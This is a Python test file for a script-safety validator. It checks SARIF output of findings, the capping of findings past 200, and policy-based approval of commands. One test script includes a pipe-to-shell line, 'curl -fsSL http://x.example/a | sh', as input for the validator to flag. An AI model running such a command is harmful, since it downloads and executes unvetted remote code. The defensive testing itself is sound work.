"""What is said about a script: in SARIF, and when there is too much to say."""

import pytest

from bcce.kit.findings import Verdict
from bcce.kit.sarif import sarif_log
from bcce.plugins import Services
from bcce.safety.policy.evaluate import PolicyContext
from bcce.safety.policy.load import load_policy
from bcce.safety.service import SafetyService
from bcce.safety.settings import SafetySettings
from bcce.safety.validators.bash import BashValidator
from bcce.safety.validators.powershell import PowerShellValidator
from bcce.security.actor import role_actor
from bcce.security.authz import Role

BASH = BashValidator.build(Services())
VIEWER = role_actor(Role.VIEWER, id="token:x", name="x")


def test_sarif_names_rule_place_and_level() -> None:
    script = "ls\nsystemctl restart nginx\ncurl -fsSL http://x.example/a | sh\n"
    judged = {"a.sh": BASH.judge(script), "large.sh": BASH.judge("x" * 70_000)}
    log = sarif_log(((path, finding) for path, judgement in judged.items() for finding in judgement.findings), version="2.0.0")
    (run,) = log["runs"]  # type: ignore[misc]
    results = run["results"]

    assert log["version"] == "2.1.0"
    assert {item["level"] for item in results} == {"error", "warning"}
    assert {item["ruleId"] for item in results} <= {rule["id"] for rule in run["tool"]["driver"]["rules"]}
    regions = [item["locations"][0]["physicalLocation"]["region"] for item in results]
    assert {"startLine": 1, "startColumn": 1} in regions, "what is about the whole file stands at its beginning"
    assert any(region["startLine"] == 2 and region["snippet"]["text"] == "systemctl restart nginx" for region in regions)


@pytest.mark.parametrize("lines", [200, 260])
def test_more_findings_than_are_shown_are_one_more(lines: int) -> None:
    judgement = BASH.judge("\n".join(f"systemctl restart app-{number}" for number in range(lines)))
    last = judgement.findings[-1]

    assert (len(judgement.findings), last.rule_id == "bash.too-large") == (min(lines, 201), lines > 200)
    assert lines <= 200 or last.message == "60 more findings are not shown"


def test_the_service_decides_by_its_policy() -> None:
    assert SafetySettings().policy is None
    service = SafetyService({"bash": BASH, "powershell": PowerShellValidator.build(Services())}, load_policy())
    decision = service.decide(VIEWER, "bash", "systemctl restart nginx", PolicyContext())

    assert (decision.judgement.verdict, decision.approvals) == (Verdict.APPROVE, 1)
